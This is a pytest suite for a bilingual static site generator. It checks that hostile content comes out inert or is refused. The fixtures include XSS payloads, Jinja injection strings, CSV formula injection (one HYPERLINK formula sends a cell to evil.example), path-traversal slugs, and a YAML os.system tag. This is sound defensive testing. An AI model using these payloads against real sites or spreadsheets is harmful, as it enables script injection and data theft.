"""Hostile and extreme content: rendered inert or refused with a clear message; never a crash,
never a write outside the output folder."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import sys
import time
import unicodedata
import xml.etree.ElementTree as ET
from dataclasses import replace
from pathlib import Path

import icalendar
import pytest
from bs4 import BeautifulSoup
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from portal.errors import ContentError
from portal.frontmatter import parse
from portal.load import load
from portal.text import fold, slugify
from tests.conftest import BASE, ROOT, dedent, run_build, write_tree

HOSTILE_TASK = """---
plan: dt-83-2014
title: "<script>alert('t')</script> {{ 7*7 }} {% if true %}x{% endif %}"
pillars: [papi-2-2]
lead: [so-noi-vu]
deadline: none
section: "<!-- c --> ‏مرحبا بالعالم‎ 👩‍🌾🇻🇳"
---
<script>alert(1)</script>

<img src=x onerror=alert(1)>

[js](javascript:alert(1)) [JS](JAVASCRIPT:alert(1)) [data](data:text/html,<script>alert(1)</script>)
[vb](vbscript:msgbox) [rel](/etc/passwd) [ok](https://example.org)

<!-- comment --> <iframe src="https://evil.example"></iframe> <a href="x" onclick="alert(1)">a</a>

{{ config }} {% raw %} ‏نص عربي‎ 😀
"""


def test_hostile_task_is_inert(site):
    result = site({"tasks/dt-83-2014/99-hostile.md": HOSTILE_TASK})
    assert result.code == 0, result.stderr
    for lang in ("vi", "en"):
        soup = result.html(f"{lang}/tasks/dt-83-2014/99-hostile/")
        assert not soup.find_all(["script", "iframe"]), "markup from content reached the page"
        assert not [t for t in soup.find_all(True) if any(a.startswith("on") for a in t.attrs)]
        hrefs = [a["href"] for a in soup.find_all("a", href=True)]
        assert not [h for h in hrefs if h.lower().startswith(("javascript:", "vbscript:", "data:"))]
        assert "/etc/passwd" not in hrefs
        assert "49" not in soup.h1.get_text() and "{{ 7*7 }}" in soup.h1.get_text()
        assert "👩‍🌾" in soup.get_text() and "مرحبا" in soup.get_text()
    # the title is escaped in every place it appears: lists, feeds, data
    plan = (result.out / "vi/plans/dt-83-2014/index.html").read_text(encoding="utf-8")
    assert "<script>alert('t')</script>" not in plan
    assert "&lt;script&gt;" in plan


JINJA = "{{ 7*7 }} {% raw %}r{% endraw %} {# note #} {{ config }}"


def test_jinja_syntax_in_titles_and_bodies_is_shown_as_written(site):
    """Content is data, never a template: Jinja syntax in a title or a Markdown body (of a task,
    its update, a plan) appears literally, not evaluated (no 49, no config, raw and comments kept)."""
    files = {
        "tasks/dt-83-2014/01-cong-khai.md": BASE["tasks/dt-83-2014/01-cong-khai.md"].replace(
            "title: Công khai danh sách hộ nghèo", f"title: 'Công khai {JINJA}'").replace(
            "Niêm yết công khai.", f"Niêm yết {JINJA}\n\n        - mục {{{{ 6*7 }}}}"),
        "tasks/dt-83-2014/01-cong-khai.en.md": f"---\ntitle: 'Publish {JINJA}'\nsection: II.1\n---\nPost {JINJA}\n",
        "updates/dt-83-2014/a.md": f"---\ntask: dt-83-2014/01-cong-khai\ndate: 2015-01-10\nstatus: in-progress\n"
                                   f"source: 'Báo cáo {JINJA}'\n---\nGhi chú {JINJA}\n",
        "plans/dt-83-2014.md": BASE["plans/dt-83-2014.md"].replace(
            "title: Kế hoạch nâng cao chất lượng công vụ", f"title: 'Kế hoạch {JINJA}'").replace(
            "short_title: Công vụ Đồng Tháp", f"short_title: 'Công vụ {JINJA}'").replace("Nội dung kế hoạch.", JINJA),
        "plans/dt-83-2014.en.md": BASE["plans/dt-83-2014.en.md"].replace(
            "title: Plan to improve the civil service", f"title: 'Plan {JINJA}'").replace(
            "short_title: Dong Thap civil service", f"short_title: 'Civil service {JINJA}'").replace("Body of the plan.", JINJA),
    }
    result = site(files)
    assert result.code == 0, result.stderr
    for lang in ("vi", "en"):
        for path in (f"{lang}/tasks/dt-83-2014/01-cong-khai/", f"{lang}/plans/dt-83-2014/"):
            soup = result.html(path)
            for element in [soup.title, soup.h1, *soup.select(".prose, ol.timeline > li")]:
                text = element.get_text()
                assert "{{ 7*7 }}" in text and "{% raw %}r{% endraw %}" in text and "{# note #}" in text, (path, text)
                assert "49" not in text and "42" not in text and "Config" not in text and "<Config" not in text, (path, text)
        task = result.html(f"{lang}/tasks/dt-83-2014/01-cong-khai/")
        if lang == "vi":
            assert "{{ 6*7 }}" in task.select_one(".prose li").get_text()
        assert "Báo cáo {{ 7*7 }}" in task.select_one("ol.timeline").get_text()
        listed = result.html(f"{lang}/plans/").select_one("main").get_text()
        assert "{{ 7*7 }}" in listed and "49" not in listed


EVIL = "<script>alert(1)</script>\"><img src=x onerror=alert(2)> & <!-- c -->"


def test_hostile_text_is_inert_in_feeds_downloads_and_the_search_index(site):
    """A hostile title, progress note and source reach every kind of output as the text they
    are: escaped in the Atom feeds (still well-formed XML, no element or handler from content),
    the iCalendar file, each CSV and JSON download and the search index's documents (which
    assets/search.js shows as text), and in no page as markup."""
    title = EVIL.replace("'", "''")
    files = {
        "plans/dt-2026.md": BASE["plans/dt-83-2014.md"].replace("date_issued: 2014-06-11", "date_issued: 2026-01-10")
            .replace("period_from: 2014", "period_from: 2026").replace("period_to: 2015", "period_to: 2027")
            .replace("title: Kế hoạch nâng cao chất lượng công vụ", f"title: '{title}'"),
        "plans/dt-2026.en.md": BASE["plans/dt-83-2014.en.md"].replace("title: Plan to improve the civil service",
                                                                      f"title: '{title}'"),
        "tasks/dt-2026/99-evil.md": f"---\nplan: dt-2026\ntitle: '{title}'\npillars: [papi-2-2]\nlead: [so-noi-vu]\n"
                                    f"deadline: 2026-12-15\nsection: '{title}'\n---\n{EVIL}\n",
        # no English file: the English outputs show the Vietnamese text, marked as such
        "updates/dt-2026/01.md": f"---\ntask: dt-2026/99-evil\ndate: 2026-10-01\nstatus: in-progress\n"
                                 f"source: '{title}'\nsource_url: https://example.org/r?a=1&b=2\n---\n{EVIL}\n\n"
                                 f"[x](javascript:alert(3)) <iframe src=https://evil.example></iframe>\n",
    }
    result = site(files)
    assert result.code == 0, result.stderr
    out = result.out
    for lang in ("vi", "en"):
        # Atom: well-formed, the text as written, nothing from content as an element or attribute
        feeds = sorted((out / "feeds" / lang).rglob("*.xml"))
        assert len(feeds) == 2
        for feed in feeds:
            root = ET.fromstring(feed.read_bytes())
            entries = root.findall("{http://www.w3.org/2005/Atom}entry")
            assert len(entries) == 1, feed
            assert EVIL in "".join(entries[0].find("{http://www.w3.org/2005/Atom}title").itertext())
            content = "".join(entries[0].find("{http://www.w3.org/2005/Atom}content").itertext())
            assert content.count(EVIL) == 2, content   # the note and the source
            names = {el.tag.rsplit("}", 1)[-1] for el in root.iter()}
            assert not names & {"script", "img", "iframe"}, names
            attributes = [(el.tag, a, v) for el in root.iter() for a, v in el.attrib.items()]
            assert not [a for a in attributes if a[1].lower().startswith("on") or a[2].lower().startswith("javascript:")]
        # iCalendar
        calendar = icalendar.Calendar.from_ical((out / f"feeds/{lang}/deadlines/dong-thap.ics").read_bytes())
        assert [str(e["SUMMARY"]).split(": ", 1)[1] for e in calendar.walk("VEVENT")] == [EVIL]
        # CSV and JSON: the same text, neither run nor HTML-escaped (which would show &lt; to every reader)
        for name in ("tasks", "updates", "plans", "plans/dt-2026"):
            raw = (out / f"data/{lang}/{name}.csv").read_text(encoding="utf-8-sig")
            cells = {cell for row in csv.reader(io.StringIO(raw)) for cell in row}
            assert EVIL in cells, (lang, name)
            assert "&lt;" not in raw, (lang, name)
        for name in ("tasks", "updates", "plans"):
            rows = json.loads((out / f"data/{lang}/{name}.json").read_text(encoding="utf-8"))["rows"]
            assert EVIL in {v for row in rows for v in row.values() if isinstance(v, str)}, (lang, name)
            assert "&lt;" not in json.dumps(rows, ensure_ascii=False), (lang, name)
        # the search index: the title as a string (search.js builds results with textContent)
        docs = [d for f in sorted((out / f"search/{lang}/docs").glob("*.json"))
                for d in json.loads(f.read_text(encoding="utf-8"))]
        assert [d[0] for d in docs].count(EVIL) >= 3, docs   # the plan, the task, its update
        # every page: no script but the search page's, no handler, no frame
        for page in out.rglob("*.html"):
            soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
            assert [s.get("src", "").rsplit("/", 1)[-1] for s in soup.find_all("script")] in ([], ["search.js"]), page
            assert not soup.find_all(["iframe", "img"]), page
            assert not [t for t in soup.find_all(True) if any(a.lower().startswith("on") for a in t.attrs)], page
        task = result.html(f"{lang}/tasks/dt-2026/99-evil/")
        assert EVIL in task.h1.get_text() and EVIL in task.select_one(".prose").get_text()
    search_js = (ROOT / "assets/search.js").read_text(encoding="utf-8")
    assert not [w for w in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(") if w in search_js]


FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Xem")'


def test_csv_cells_are_never_spreadsheet_formulas(site):
    """A title or name beginning with =, +, - or @ would run as a formula in a spreadsheet
    (CSV injection): the CSV gives it a leading apostrophe, the JSON and the pages keep it."""
    quoted = FORMULA.replace("'", "''")
    result = site({
        "tasks/dt-83-2014/01-cong-khai.md": BASE["tasks/dt-83-2014/01-cong-khai.md"].replace(
            "title: Công khai danh sách hộ nghèo", f"title: '{quoted}'"),
        "tasks/dt-83-2014/01-cong-khai.en.md": "---\ntitle: \"+cmd|' /C calc'!A0\"\nsection: II.1\n---\n",
        "agencies/so-noi-vu.md": "---\nname: '@SUM(1+1)*cmd'\nlevel: province\n---\n",
        "agencies/so-noi-vu.en.md": "---\nname: -2+3\n---\n",
    })
    assert result.code == 0, result.stderr
    expected = {"vi": (FORMULA, "@SUM(1+1)*cmd"), "en": ("+cmd|' /C calc'!A0", "-2+3")}
    for lang, (title, agency) in expected.items():
        for name in ("tasks", f"plans/dt-83-2014"):
            rows = list(csv.DictReader(io.StringIO((result.out / f"data/{lang}/{name}.csv").read_text(encoding="utf-8-sig"))))
            assert [(r["title"], r["lead_names"]) for r in rows] == [("'" + title, "'" + agency)], (lang, name)
        data = json.loads((result.out / f"data/{lang}/tasks.json").read_text(encoding="utf-8"))["rows"]
        assert [(r["title"], [a["name"] for a in r["lead"]]) for r in data] == [(title, [agency])]
        assert result.html(f"{lang}/tasks/dt-83-2014/01-cong-khai/").h1.get_text(strip=True) == title


@pytest.mark.parametrize("slug, message", [
    ("../../etc", "would write outside site/"),
    ("/etc/passwd", "would write outside site/"),
    ("..", "would write outside site/"),
    ("a/b", "would write outside site/"),
    ("C:\\\\x", "would write outside site/"),
])
def test_escaping_slugs_are_refused(site, slug, message, tmp_path):
    task = BASE["tasks/dt-83-2014/01-cong-khai.md"].replace("order: 1", f'order: 1\n        slug: "{slug}"')
    result = site({"tasks/dt-83-2014/01-cong-khai.md": task})
    assert result.code == 1
    assert message in result.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["content"]


def test_control_characters_and_bidi(site):
    result = site({"agencies/x.md": "---\nname: \"A\\u0000B\"\nlevel: province\n---\n"})
    # a NUL written as a YAML escape is refused like a raw one
    assert result.code == 1
    assert "content/agencies/x.md:2: name: contains a control character (such as NUL); delete it" in result.stderr


def test_five_megabyte_body(site):
    body = ("Nội dung rất dài với **chữ đậm** và [liên kết](https://example.org). " * 80 + "\n\n") * 1000
    assert len(body.encode()) > 5_000_000
    task = dedent(BASE["tasks/dt-83-2014/01-cong-khai.md"]).replace("Niêm yết công khai.", body)
    result = site({"tasks/dt-83-2014/01-cong-khai.md": task})
    assert result.code == 0, result.stderr
    assert (result.out / "vi/tasks/dt-83-2014/01-cong-khai/index.html").stat().st_size > 5_000_000


def test_ten_thousand_tasks_in_one_plan(site):
    files = {}
    for i in range(10_000):
        files[f"tasks/dt-83-2014/t{i:05d}.md"] = (
            f"---\nplan: dt-83-2014\ntitle: Nhiệm vụ {i}\npillars: [papi-2-2]\nlead: [so-noi-vu]\n"
            f"deadline: none\nsection: II\norder: {i}\n---\n")
    result = site(files)
    assert result.code == 0, result.stderr
    assert len(list((result.out / "vi/tasks/dt-83-2014").iterdir())) == 10_001
    assert "10000 records have no English translation yet" in result.stdout


# ---------------------------------------------------------------- property-based

@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=400))
def test_any_bytes_load_or_raise_a_content_error_with_a_line(raw):
    try:
        doc = parse(raw, "content/x.md")
    except ContentError as error:
        assert error.path == "content/x.md"
        assert error.line >= 1
        assert error.message
    else:
        assert isinstance(doc.data, dict)


YAMLISH = st.lists(st.sampled_from([
    "---", "title: x", "title: 'a", 'x: "b"', "- a", "a: [1, 2", "a: {b: c}", "no: no", "d: 2024-13-01",
    "  indented: 1", "key: value: more", "&a x", "*a", "!!python/object:os.system", "? complex", "|", ">",
    "a: ~", "a:\n  - 1\n  - 2", "Đồng Tháp: tỉnh", "x: 1.10", "\t tab: x",
]), max_size=12)


@settings(max_examples=300, deadline=None)
@given(YAMLISH)
def test_yaml_like_text_loads_or_raises_a_content_error(lines):
    raw = ("---\n" + "\n".join(lines) + "\n---\nbody").encode()
    try:
        parse(raw, "content/y.md")
    except ContentError as error:
        assert error.path == "content/y.md"
        assert 1 <= error.line <= raw.count(b"\n") + 1


@given(st.text(max_size=60))
def test_slugs_are_ascii_and_idempotent(text):
    slug = slugify(text)
    assert slug.isascii()
    assert slugify(slug) == slug
    assert slug == slugify(unicodedata.normalize("NFD", text)) == slugify(unicodedata.normalize("NFC", text))


@given(st.text(alphabet=st.characters(categories=["L", "M", "Zs"]), max_size=40))
def test_folding_is_form_independent(text):
    assert fold(unicodedata.normalize("NFD", text)) == fold(unicodedata.normalize("NFC", text))
    assert "đ" not in fold(text) and "Đ" not in fold(text)


def test_nfc_and_nfd_spellings_give_the_same_record(site):
    nfd_name = unicodedata.normalize("NFD", "Tỉnh Hậu Giang")
    result = site({f"provinces/{unicodedata.normalize('NFD', 'hậu-giang')}.md": f"---\nname: {nfd_name}\ntype: province\n---\n"})
    assert result.code == 0
    page = (result.out / "vi/provinces/hau-giang/index.html").read_text(encoding="utf-8")
    assert unicodedata.normalize("NFC", "Tỉnh Hậu Giang") in page
    assert nfd_name not in page


def test_the_same_record_written_nfc_or_nfd_gives_the_same_record_slug_and_pages(tmp_path):
    """macOS and some editors save decomposed (NFD) Vietnamese, others composed (NFC): file names,
    field values and bodies in either form give one record, one address and the same pages."""
    def tree(form: str) -> dict:
        n = lambda text: unicodedata.normalize(form, text)  # noqa: E731
        return dict(BASE) | {
            n("provinces/hậu-giang.md"): n("---\nname: Tỉnh Hậu Giang\ntype: province\n---\nGhi chú về Hậu Giang.\n"),
            n("agencies/sở-tư-pháp.md"): n("---\nname: Sở Tư pháp\nlevel: province\nended_note: Sáp nhập vào Sở Nội vụ.\n---\n"),
            n("agencies/sở-tư-pháp.en.md"): n("---\nname: Department of Justice\nended_note: Merged (Sở Nội vụ).\n---\n"),
            n("tasks/dt-83-2014/02-phổ-biến.md"): n(
                "---\nplan: dt-83-2014\ntitle: Phổ biến pháp luật\npillars: [papi-2-2]\nlead: [so-tu-phap]\n"
                "deadline: ongoing\nsection: \"II.2. Công khai\"\n---\nTuyên truyền, phổ biến.\n"),
        }

    loaded, pages = {}, {}
    for form in ("NFC", "NFD"):
        content = write_tree(tmp_path / form / "content", tree(form))
        built = run_build(content, tmp_path / form / "site")
        assert built.code == 0, built.stderr
        loaded[form] = load(content)
        out = tmp_path / form / "site"
        pages[form] = {p.relative_to(out).as_posix(): p.read_bytes() for p in out.rglob("*") if p.is_file()}
    nfc = unicodedata.normalize("NFC", "tasks/dt-83-2014/02-phổ-biến.md")
    assert unicodedata.normalize("NFD", nfc) != nfc
    for kind in ("province", "agency", "task"):
        a, b = loaded["NFC"].of(kind), loaded["NFD"].of(kind)
        assert list(a) == list(b)
        for rid in a:
            # the same record; its source path names the file as it is on disk (the editor's spelling)
            assert unicodedata.normalize("NFC", b[rid].source.path) == a[rid].source.path
            assert replace(b[rid], source=a[rid].source) == a[rid], rid
    assert loaded["NFD"].of("task")["dt-83-2014/02-pho-bien"].slug == "dt-83-2014/02-pho-bien"
    assert "vi/tasks/dt-83-2014/02-pho-bien/index.html" in pages["NFD"]
    assert pages["NFC"] == pages["NFD"]


# ---------------------------------------------------------------- no lost work

def slow_tree(root: Path) -> Path:
    files = dict(BASE)
    for i in range(3000):
        files[f"tasks/dt-83-2014/t{i:04d}.md"] = (
            f"---\nplan: dt-83-2014\ntitle: Nhiệm vụ {i}\npillars: [papi-2-2]\nlead: [so-noi-vu]\n"
            f"deadline: none\nsection: II\norder: {i}\n---\nNội dung {i}.\n")
    return write_tree(root, files)


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGKILL], ids=["SIGTERM", "SIGKILL"])
def test_interrupted_build_keeps_previous_site(tmp_path, sig):
    content = write_tree(tmp_path / "small", BASE)
    out = tmp_path / "out" / "site"
    cmd = [sys.executable, str(ROOT / "build.py"), "--out", str(out), "--as-of", "2026-11-22"]
    assert subprocess.run(cmd + ["--content", str(content)], capture_output=True).returncode == 0
    before = {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()}

    big = slow_tree(tmp_path / "big")
    log = tmp_path / "build.log"
    with log.open("wb") as stderr:   # a file, not a pipe: a pipe nobody reads can block the build
        proc = subprocess.Popen(cmd + ["--content", str(big)], stdout=subprocess.DEVNULL, stderr=stderr)
    # wait until it is writing its temporary site, then interrupt it
    deadline = time.monotonic() + 300
    while time.monotonic() < deadline and proc.poll() is None and not list(out.parent.glob(".site.tmp-*/*")):
        time.sleep(0.005)
    assert proc.poll() is None, f"the build ended (exit {proc.returncode}) before it could be interrupted: {log.read_text()}"
    assert list(out.parent.glob(".site.tmp-*")), "the build never started writing"
    os.kill(proc.pid, sig)
    proc.wait(timeout=60)
    after = {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()}
    assert after == before, "the previous site changed"
    leftovers = sorted(p.name for p in out.parent.iterdir() if p.name not in ("site", ".site.cache"))
    if sig == signal.SIGTERM:
        assert leftovers == [], "a politely stopped build must clean up after itself"
    else:
        # SIGKILL allows no clean-up; the next build removes what was left
        assert subprocess.run(cmd + ["--content", str(content)], capture_output=True).returncode == 0
        assert sorted(p.name for p in out.parent.iterdir()) == [".site.cache", "site"]


def test_workers_die_at_once_when_told_to_stop(tmp_path):
    """A pool stops its workers with SIGTERM. The command line turns SIGTERM into an exception
    (for its clean-up); its workers must not, or a worker stuck in its exit hangs the build."""
    import multiprocessing
    import signal
    from portal import cli
    from portal.processes import die_with_parent
    before = signal.signal(signal.SIGTERM, cli._terminate)
    try:
        worker = multiprocessing.get_context("fork").Process(target=_sleep_after, args=(die_with_parent,))
        worker.start()
        time.sleep(0.5)
        worker.terminate()
        worker.join(10)
    finally:
        signal.signal(signal.SIGTERM, before)
    assert worker.exitcode == -signal.SIGTERM   # killed by the signal, not an exit after an exception


def _sleep_after(initializer):
    initializer()
    time.sleep(30)
